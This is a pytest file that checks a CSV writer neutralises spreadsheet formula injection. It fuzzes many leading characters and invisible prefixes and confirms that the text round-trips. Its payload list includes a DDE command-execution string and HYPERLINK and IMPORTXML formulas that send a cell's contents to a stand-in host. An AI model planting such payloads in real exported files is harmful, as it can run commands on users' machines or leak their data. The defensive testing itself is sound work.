"""No cell is a formula to any spreadsheet, and what comes back is what went in."""

import csv
import io
import itertools
import random
import unicodedata

import pytest

from postmortem.text.csv import csv_line, safe_cell

STARTS = ("=", "+", "-", "@", "|", "%", "＝", "＋", "－", "＠", "﹢", "﹣", "−", "﹦", "﹫")
PAYLOADS = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://x.example?l="&A1,"Click")',
    "SUM(1;2)",
    'IMPORTXML("http://x.example","//a")',
    "2+5+cmd",
    "",
    "-1",
    "\n=1+1",
)
BEFORE = (
    "",
    " ",
    "\t",
    "\r",
    "\n",
    "\x00",
    "\x0b",
    "\u00a0",
    "\u200b",
    "\ufeff",
    "  \t ",
    "\x1f",
    "\u3000",
    "'",
    '"',
)


def nasty() -> list[str]:
    """A few thousand: every start behind every blank before every payload, and as much noise."""
    made = ["".join(parts) for parts in itertools.product(BEFORE, STARTS, PAYLOADS)]
    dice = random.Random(7)
    signs = [*"".join(STARTS), *"\t\r\n\x00\x01\x1b\x7f\x85\ud800,;\"' aé漢\u202e\u2028", "=cmd"]
    made += ["".join(dice.choices(signs, k=dice.randint(0, 12))) for _ in range(2000)]
    return made


def read_back(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_no_cell_starts_a_formula() -> None:
    texts = nasty()
    assert len(texts) > 3000
    rows = read_back("".join(csv_line([text, "end"]) for text in texts))
    assert len(rows) == len(texts)
    for text, (cell, end) in zip(texts, rows, strict=True):
        assert end == "end", repr(text)
        # What a spreadsheet skips before it looks; wide forms count as narrow ones.
        seen = unicodedata.normalize("NFKC", cell).lstrip(" \t\r\n\x0b\x0c\x85\xa0\u200b\u2060\ufeff\u3000")
        assert not seen.startswith(("=", "+", "-", "@", "−")), (text, cell)
        assert not cell.startswith(("\t", "\r", "\n")), (text, cell)


def test_texts_come_back_as_they_were() -> None:
    """But for an apostrophe in front, and for control characters, which no text of ours has."""
    for text in nasty():
        ((cell,),) = read_back(csv_line([text]))
        kept = "".join(
            each for each in text if each in "\t\n\r" or unicodedata.category(each) not in ("Cc", "Cs")
        )
        kept_cell = "".join(each for each in cell if each != "\x85")
        assert kept_cell in (kept, f"'{kept}"), (text, cell)


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (-5, "-5"),
        (3.25, "3.25"),
        (-0.5, "-0.5"),
        (None, ""),
        (True, "yes"),
        (False, "no"),
        ("-5", "'-5"),
        ('Plain, with “quotes” and "these"', 'Plain, with “quotes” and "these"'),
        ("two\nlines", "two\nlines"),
        ("ada@example.com", "ada@example.com"),
        ("@ada", "'@ada"),
        ("a-b", "a-b"),
    ],
)
def test_numbers_stay_and_words_stay(value: object, cell: str) -> None:
    assert safe_cell(value) == cell
    assert read_back(csv_line([value, value])) == [[cell, cell]]


def test_a_line_is_quoted_and_ends_as_the_standard_says() -> None:
    assert csv_line(["a", 1, None]) == '"a","1",""\r\n'
